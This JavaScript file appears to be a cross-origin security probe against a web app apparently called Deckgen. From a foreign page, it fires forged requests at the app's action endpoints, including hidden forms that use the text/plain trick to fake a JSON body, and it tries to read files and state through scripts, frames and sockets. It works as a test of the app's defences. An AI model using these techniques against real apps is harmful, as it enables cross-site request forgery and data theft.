// Everything that a page of another site can send or load, each with what it could read: gives what it read, and how
// much it tried.
const TRIED = [], READ = [];
const wait = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
async function attempt(name, work) {
  TRIED.push(name);
  try {
    const read = await Promise.race([work(), wait(3000)]);
    if (read) READ.push(`${name}: ${String(read).slice(0, 100)}`);
  } catch {}
}
const element = (name, properties) => Object.assign(document.createElement(name), properties);
// Whether it was loaded: that alone would tell something.
const loaded = (made) => new Promise((done) => {
  made.onload = made.onloadeddata = () => done("loaded");
  made.onerror = () => done("");
  document.body.append(made);
});

async function attack(target, token, ticket, row) {
  const skip = JSON.stringify({ text: "testo", op: "skip", rows: [row], skip: true });
  const enter = JSON.stringify({ ticket });
  const calls = [["/api/do", skip], ["/api/enter", enter], ["/api/remove", '{"text":"testo"}'], ["/api/undo", "{}"]];
  const types = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/octet-stream", ""];
  for (const [path, body] of calls) {
    for (const type of types) for (const mode of ["cors", "no-cors", "same-origin"]) for (const known of [false, true]) {
      const headers = { ...(type && { "Content-Type": type }), ...(known && { "X-Deckgen-Token": token }) };
      await attempt(`fetch ${path} ${type} ${mode} ${known}`, async () => {
        const answer = await fetch(target + path, { method: "POST", mode, headers, body, credentials: "include", keepalive: known });
        return answer.status || await answer.text();
      });
    }
    for (const type of types) {
      await attempt(`beacon ${path} ${type}`, async () => { navigator.sendBeacon(target + path, new Blob([body], { type })); });
      await attempt(`xhr ${path} ${type}`, () => new Promise((done) => {
        const made = new XMLHttpRequest();
        made.open("POST", target + path);
        if (type) made.setRequestHeader("Content-Type", type);
        made.onloadend = () => done(made.status || made.responseText);
        made.send(body);
      }));
    }
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) for (const method of ["post", "get"]) {
      await attempt(`form ${path} ${enctype} ${method}`, async () => {
        const name = `frame${TRIED.length}`, frame = element("iframe", { name });
        const form = element("form", { action: target + path, method, enctype, target: name });
        const at = body.lastIndexOf('":') + 2;  // a body of text/plain that is JSON: what is before `=` is the name
        form.append(element("input", { name: body.slice(0, at) + '"', value: '"' + body.slice(at) }));
        document.body.append(frame, form);
        form.submit();
        await new Promise((done) => { frame.onload = done; setTimeout(done, 500); });
        return frame.contentDocument?.body?.innerText;
      });
    }
  }
  for (const method of ["GET", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH"]) for (const path of ["/", "/app/main.js", "/app/en.json", "/api/state"]) for (const mode of ["cors", "no-cors"]) {
    await attempt(`fetch ${method} ${path} ${mode}`, async () => { const answer = await fetch(target + path, { method, mode }); return answer.status || await answer.text(); });
  }
  for (const path of ["/", "/app/main.js", "/app/card.js", "/app/en.json", "/app/studio.css", "/api/state", "/api/open"]) {
    const src = target + path;
    await attempt(`script ${path}`, () => loaded(element("script", { src })));
    await attempt(`module ${path}`, () => loaded(element("script", { src, type: "module" })));
    await attempt(`import ${path}`, async () => Object.keys(await import(src)));
    await attempt(`sheet ${path}`, () => loaded(element("link", { rel: "stylesheet", href: src })));
    await attempt(`preload ${path}`, () => loaded(element("link", { rel: "preload", as: "script", href: src })));
    await attempt(`img ${path}`, () => loaded(element("img", { src })));
    await attempt(`video ${path}`, () => loaded(element("video", { src })));
    await attempt(`object ${path}`, () => loaded(element("object", { data: src })));
    await attempt(`worker ${path}`, async () => { new Worker(src); return "made"; });
    for (const sandbox of ["", "allow-scripts", "allow-scripts allow-same-origin"]) await attempt(`frame ${path} ${sandbox}`, async () => {
      const frame = element("iframe", { src });
      if (sandbox) frame.setAttribute("sandbox", sandbox);
      const heard = [];
      addEventListener("message", (event) => heard.push(event.data));
      document.body.append(frame);
      await new Promise((done) => { frame.onload = done; });
      frame.contentWindow.postMessage("ciao", "*");
      return frame.contentDocument?.body?.innerText || heard.join();
    });
  }
  await attempt("socket", () => new Promise((done) => {
    const made = new WebSocket(target.replace("http", "ws") + "/api/state");
    made.onopen = () => done("open");
    made.onclose = () => done("");
  }));
  await attempt("events", () => new Promise((done) => {
    const made = new EventSource(target + "/api/state");
    made.onopen = () => done("open");
    made.onerror = () => done("");
  }));
  return { read: READ, tried: TRIED.length };
}
